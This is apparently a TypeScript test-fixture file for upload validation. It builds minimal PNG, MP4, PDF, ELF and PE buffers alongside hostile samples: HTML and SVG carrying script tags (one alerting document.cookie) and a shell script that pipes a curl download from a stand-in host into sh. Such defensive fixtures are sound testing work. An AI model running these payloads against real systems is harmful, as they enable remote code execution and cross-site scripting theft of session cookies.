/** Small real files of each kind, and hostile ones, for upload tests. Built in memory: nothing to ship. */
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64'
);

// An ISO base media file: an `ftyp` box naming the mp4 brands, then an empty `mdat`.
export const MP4 = Buffer.concat([
  Buffer.from([0, 0, 0, 0x20]),
  Buffer.from('ftypisom'),
  Buffer.from([0, 0, 0x02, 0]),
  Buffer.from('isomiso2avc1mp41'),
  Buffer.from([0, 0, 0, 8]),
  Buffer.from('mdat'),
]);

export const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'
);

export const TEXT = Buffer.from('Week 1 reading list\n1. Plato, The Republic\n');

export const HTML = Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/users/me")</script></body></html>');
// Harmless first line, page after it: a browser sniffing the start of the file still finds the markup.
export const HTML_AFTER_TEXT = Buffer.from('Notes for the lesson\n\n<script>alert(document.cookie)</script>\n');
export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'
);
export const SVG_PLAIN = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>'
);
export const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
export const PE = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([0x80, 0, 0, 0]),
  Buffer.alloc(64),
  Buffer.from('PE\0\0'),
  Buffer.alloc(64),
]);
export const SHELL = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
